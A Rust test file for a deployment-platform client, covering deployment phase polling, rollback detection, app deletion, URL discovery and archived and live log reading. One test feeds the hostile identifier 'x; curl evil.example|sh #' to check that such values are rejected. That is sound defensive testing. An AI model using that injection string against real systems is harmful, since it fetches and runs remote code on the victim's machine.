//! Waiting for deployments, URLs and the end of an app, and reading logs.

use std::time::Duration;

use futures_util::SinkExt as _;
use serde_json::json;
use tokio::net::TcpListener;
use tokio_tungstenite::tungstenite::Message;

use super::{Do, app, app_with_pending, count, not_found, refuse, run, say, spec};
use crate::model::rollout::Phase;
use crate::platforms::app_platform::AppPlatform;
use crate::platforms::error::Result;
use crate::platforms::{LogKind, Outcome, PlatformError, Rollout};
use crate::redact::Untrusted;
use crate::wait::Deadline;

fn rollout() -> Rollout {
    Rollout {
        app_id: "a1".to_owned(),
        app_name: "shop".to_owned(),
        deployment: Some("d2".to_owned()),
        previous: None,
        warnings: Vec::new(),
    }
}

/// Follows a deployment of an app that served before.
async fn follow(platform: &AppPlatform) -> Result<Outcome> {
    let rollout = Rollout {
        previous: Some("d1".to_owned()),
        ..rollout()
    };
    let deadline = Deadline::after(Duration::from_secs(60));
    platform.follow(&rollout, deadline, &mut |_| {}).await
}

#[test]
fn waiting_tolerates_errors_and_reports_changes_once() {
    let phases = ["PENDING_BUILD", "BUILDING", "BUILDING", "", "ACTIVE"];
    let mut seen = Vec::new();
    let (deployment, _) = run(
        |_, times| match phases[times] {
            "" => refuse(429, "API Rate limit exceeded."),
            phase => say(json!({"deployment": {"id": "d2", "phase": phase}})),
        },
        async |platform| {
            let mut on_change = |deployment: &crate::platforms::Deployment| seen.push(deployment.phase.clone());
            platform
                .wait(&rollout(), Deadline::after(Duration::from_secs(60)), &mut on_change)
                .await
        },
    );
    assert_eq!(deployment.expect("ended").phase, Phase::Active);
    assert_eq!(seen, [Phase::Queued, Phase::Building, Phase::Active]);
}

#[test]
fn a_superseded_deployment_names_the_one_that_took_its_place() {
    let (outcome, _) = run(
        |asked, _| match asked {
            "GET /v2/apps/a1/deployments/d2" => say(json!({"deployment": {"id": "d2", "phase": "SUPERSEDED"}})),
            _ => say(json!({"app": app_with_pending(spec("new"), "d3")})),
        },
        follow,
    );
    let outcome = outcome.expect("ended");
    let by = match &outcome {
        Outcome::Superseded { by, .. } => by.as_deref().map(|by| by.id.as_str()),
        _ => None,
    };
    assert_eq!(by, Some("d3"), "{outcome:?}");
}

#[test]
fn the_platforms_own_rollback_is_found_although_it_appears_a_moment_after_the_failure() {
    let after = |next: serde_json::Value| {
        let (outcome, requests) = run(
            |asked, times| match asked.split('?').next().unwrap_or_default() {
                "GET /v2/apps/a1/deployments/d2" => say(json!({"deployment": {"id": "d2", "phase": "ERROR"}})),
                _ if times == 0 => say(json!({"deployments": [{"id": "d2", "phase": "ERROR"}]})),
                _ => say(json!({"deployments": [next, {"id": "d2", "phase": "ERROR"}]})),
            },
            follow,
        );
        match outcome.expect("ended") {
            Outcome::Failed { rollback, .. } => (rollback.and_then(|it| it.deployment), requests.len()),
            other => panic!("{other:?}"),
        }
    };
    let own = json!({"id": "d3", "phase": "BUILDING", "cause_details": {"type": "AUTO_ROLLBACK"}});
    assert_eq!(after(own), (Some("d3".to_owned()), 3));
    let pushed = json!({"id": "d3", "phase": "BUILDING", "cause_details": {"type": "DEPLOY_ON_PUSH"}});
    assert_eq!(after(pushed), (None, 3), "another deployment: there will be none");
}

#[test]
fn waiting_ends_with_its_deadline() {
    let (ended, _) = run(
        |_, _| say(json!({"deployment": {"id": "d2", "phase": "BUILDING"}})),
        async |platform| {
            platform
                .wait(&rollout(), Deadline::after(Duration::ZERO), &mut |_| {})
                .await
        },
    );
    assert!(matches!(ended, Err(PlatformError::Deadline { .. })), "{ended:?}");
}

#[test]
fn an_app_is_destroyed_when_it_cannot_be_found_any_more() {
    let (destroyed, requests) = run(
        |asked, times| match (asked, times) {
            ("DELETE /v2/apps/a1", _) => say(json!({"id": "a1"})),
            ("GET /v2/apps/a1", 0) => say(json!({"app": app(spec("old"))})),
            _ => not_found(),
        },
        async |platform| {
            platform
                .destroy("a1", Deadline::after(Duration::from_secs(60)), async || Ok(()))
                .await
        },
    );
    destroyed.expect("gone");
    assert_eq!(count(&requests, "GET"), 2);
    let gone = async |platform: &AppPlatform| {
        platform
            .destroy("a1", Deadline::after(Duration::ZERO), async || Ok(()))
            .await
    };
    run(|_, _| not_found(), gone).0.expect("gone already");
}

#[test]
fn the_url_is_known_once_that_deployment_is_active() {
    let (known, _) = run(
        |_, times| match times {
            0 => say(json!({"app": {"id": "a1", "spec": spec("x"), "active_deployment": {"id": "d1"}}})),
            _ => say(json!({"app": app(spec("x"))})),
        },
        async |platform| {
            platform
                .serving("a1", "d1", Deadline::after(Duration::from_secs(60)))
                .await
        },
    );
    let url = known.expect("an answer").and_then(|app| app.url);
    assert_eq!(url.as_deref(), Some("https://shop.example"));
    let (none, _) = run(
        |_, _| say(json!({"app": {"id": "a1", "spec": {"name": "mail", "workers": [{"name": "mail"}]}}})),
        async |platform| platform.serving("a1", "d1", Deadline::after(Duration::ZERO)).await,
    );
    assert!(none.expect("an answer").is_none());
}

#[test]
fn archived_logs_are_read_without_our_token() {
    let (lines, requests) = run(
        |asked, _| match asked.split('?').next().unwrap_or_default() {
            "GET /archive" => Do::Text("web 2026-03-01T10:00:00Z one\nweb 2026-03-01T10:00:01Z two\n".to_owned()),
            _ => Do::Text(r#"{"historic_urls":["http://HOST/archive?signature=x"]}"#.to_owned()),
        },
        async |platform| platform.logs("a1", Some("d1"), None, LogKind::Run, 1).await,
    );
    let lines = lines.expect("an answer").expect("written");
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0].text, Untrusted::new("two"));
    let archive = requests
        .iter()
        .find(|request| request.starts_with("GET /archive"))
        .expect("read");
    assert!(!archive.to_ascii_lowercase().contains("authorization"), "{archive}");
}

#[test]
fn a_phase_that_never_ran_has_no_log_and_a_lost_archive_is_an_error_without_its_signature() {
    let (none, _) = run(
        |_, _| refuse(400, "deployment has not reached this phase"),
        async |platform| platform.logs("a1", Some("d1"), None, LogKind::Build, 9).await,
    );
    assert_eq!(none.expect("an answer"), None);
    let (lost, _) = run(
        |asked, _| match asked.split('?').next().unwrap_or_default() {
            "GET /archive" => not_found(),
            _ => Do::Text(r#"{"historic_urls":["http://HOST/archive?signature=x"]}"#.to_owned()),
        },
        async |platform| platform.logs("a1", Some("d1"), None, LogKind::Build, 9).await,
    );
    let message = lost.expect_err("lost").to_string();
    assert!(message.contains("/archive: 404"), "{message}");
    assert!(!message.contains("signature"), "{message}");
}

#[test]
fn a_running_log_is_followed_to_its_end() {
    let mut texts = Vec::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("non-blocking");
    let socket = listener.local_addr().expect("bound");
    let (followed, _) = run(
        |_, _| say(json!({"live_url": format!("http://{socket}/logs?token=hush")})),
        async |platform| {
            let listener = TcpListener::from_std(listener).expect("a listener");
            let server = async {
                let (stream, _) = listener.accept().await.expect("a connection");
                let mut log = tokio_tungstenite::accept_async(stream).await.expect("a handshake");
                let data = json!({"data": "web 2026-03-01T10:00:00Z one\nweb 2026-03-01T10:00:01Z two\n"});
                log.send(Message::text(data.to_string())).await.expect("sent");
                log.close(None).await.expect("closed");
                std::future::pending::<()>().await;
            };
            let mut on_line = |line: crate::platforms::LogLine| texts.push(line.text);
            tokio::select! {
                followed = platform.follow_log("a1", None, Some("web"), LogKind::Run, &mut on_line) => followed,
                () = server => unreachable!("the server never ends"),
            }
        },
    );
    assert_eq!(followed.expect("an answer"), Some(()));
    assert_eq!(texts, ["one", "two"].map(Untrusted::new));
}

/// It would reach paths, links and commands to paste.
#[test]
fn what_is_named_by_no_identifier_is_no_answer_of_this_api() {
    let evil = "x; curl evil.example|sh #";
    let deployment = json!({"id": evil, "phase": "ACTIVE"});
    let answers = json!({"apps": [{"id": evil, "spec": spec("x")}], "app": {"id": evil, "spec": spec("x")},
        "deployments": [deployment], "deployment": deployment});
    let asked = async |platform: &AppPlatform| {
        let errors = [
            platform.list().await.map(drop),
            platform.find("shop-pr-12").await.map(drop),
            platform.app(evil).await.map(drop),
            platform.deployments("a1", 5).await.map(drop),
        ];
        errors.map(|error| error.expect_err("refused").to_string())
    };
    for error in run(|_, _| say(answers.clone()), asked).0 {
        assert!(error.contains("JSON without"), "{error}");
    }
    let mut given = app_with_pending(spec("x"), evil);
    given["active_deployment"]["id"] = json!(evil);
    let (app, _) = run(
        |_, _| say(json!({ "app": given })),
        async |platform| platform.app("a1").await,
    );
    let app = app.expect("an answer").expect("there");
    assert!(app.in_progress.is_none() && app.active.is_none(), "{app:?}");
}

#[test]
fn the_answer_about_another_app_is_none_about_this_one() {
    let other = json!({"app": {"id": "other", "spec": spec("x")}});
    let (app, _) = run(|_, _| say(other.clone()), async |platform| platform.app("a1").await);
    let error = app.expect_err("refused").to_string();
    assert!(error.contains("JSON without an app"), "{error}");
}
